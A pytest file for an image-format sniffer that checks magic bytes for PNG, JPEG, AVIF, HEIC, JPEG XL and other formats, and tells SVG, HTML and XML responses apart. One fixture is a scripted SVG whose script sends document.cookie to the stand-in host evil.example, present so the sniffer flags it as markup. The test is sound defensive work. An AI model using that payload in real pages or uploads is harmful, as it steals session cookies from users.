"""What a picture's bytes are, whatever the server called them: one table per family."""

from __future__ import annotations

import io

import pytest
from PIL import Image

from tui.core.images.sniff import DECODABLE, MARKUP, UNSUPPORTED, sniff


def _saved(pil_format: str, mode: str = "RGB", **options: object) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, (16, 8), "red" if mode == "RGB" else 1).save(buffer, pil_format, **options)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("pil_format", "kind"),
    [
        ("PNG", "png"),
        ("JPEG", "jpeg"),
        ("GIF", "gif"),
        ("WEBP", "webp"),
        ("AVIF", "avif"),
        ("BMP", "bmp"),
        ("TIFF", "tiff"),
        ("ICO", "ico"),
        ("JPEG2000", "jp2"),
        ("QOI", "qoi"),
    ],
)
def test_pictures_pillow_writes(pil_format: str, kind: str) -> None:
    assert sniff(_saved(pil_format)) == kind


def test_the_decodable_kinds_and_the_refused_ones_do_not_overlap() -> None:
    assert set(DECODABLE) == {"png", "jpeg", "gif", "webp", "avif", "bmp"}
    assert not set(DECODABLE) & UNSUPPORTED
    assert not set(DECODABLE) & MARKUP


@pytest.mark.parametrize(
    ("head", "kind"),
    [
        (b"\x00\x00\x00\x1cftypheic\x00\x00\x00\x00mif1heic", "heic"),
        (b"\x00\x00\x00\x1cftypmif1\x00\x00\x00\x00mif1avif", "avif"),  # by compatible brand
        (b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2", ""),  # an MP4 video
        (b"\xff\x0a\xfa\x7f", "jxl"),
        (b"\x00\x00\x00\x0cJXL \r\n\x87\n", "jxl"),
        (b"8BPS\x00\x01", "psd"),
    ],
)
def test_containers_and_formats_pillow_does_not_write(head: bytes, kind: str) -> None:
    assert sniff(head + b"\x00" * 64) == kind


SCRIPTED_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">
<script>fetch('https://evil.example/?c=' + document.cookie)</script></svg>"""


@pytest.mark.parametrize(
    "body",
    [
        SCRIPTED_SVG,
        b'<?xml version="1.0" encoding="UTF-8"?>\n' + SCRIPTED_SVG,
        b'<?xml version="1.0"?><!-- Generator: Illustrator --><!DOCTYPE svg PUBLIC '
        b'"-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
        b"<svg></svg>",
        b"\xef\xbb\xbf  \n<svg/>",  # a byte order mark and blank lines first
        "\ufeff<?xml version='1.0' encoding='UTF-16'?><svg/>".encode("utf-16-le"),
        b'<svg:svg xmlns:svg="http://www.w3.org/2000/svg"/>',
        pytest.param(b"<?xml version='1.0'?><!-- " + b"x" * 5000 + b" --><svg/>", id="long"),
        b"<?xml version='1.0'?><!-- a comment --><SVG VIEWBOX='0 0 1 1'/>",
    ],
)
def test_svg_in_its_many_spellings(body: bytes) -> None:
    assert sniff(body) == "svg"


@pytest.mark.parametrize(
    "body",
    [
        b"<!DOCTYPE html><html><head><title>Not found</title></head></html>",
        b"\n\n  <html lang=en><body>Sign in to the Wi-Fi</body></html>",
        b"<!-- served by nginx --><head><meta charset=utf-8>",
        b"<script>location='/login'</script>",
        b"<p>Forbidden</p>",
    ],
)
def test_html_error_pages_and_portals(body: bytes) -> None:
    assert sniff(body) == "html"


def test_xml_that_is_not_svg() -> None:
    s3_error = b'<?xml version="1.0" encoding="UTF-8"?><Error><Code>AccessDenied</Code></Error>'
    assert sniff(s3_error) == "xml"


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"\x89PN",  # a PNG signature cut short
        b"GIF8",
        b"RIFF\x00\x00\x00\x00WAVEfmt ",  # RIFF, but sound
        b"BM is not a bitmap just because it starts so",
        b'{"error": "not found"}',
        b"Not Found",
        b"< not markup",
        b"\x1f\x8b\x08\x00",  # gzip: an .svgz, or anything
    ],
)
def test_anything_else_is_nothing(body: bytes) -> None:
    assert sniff(body) == ""
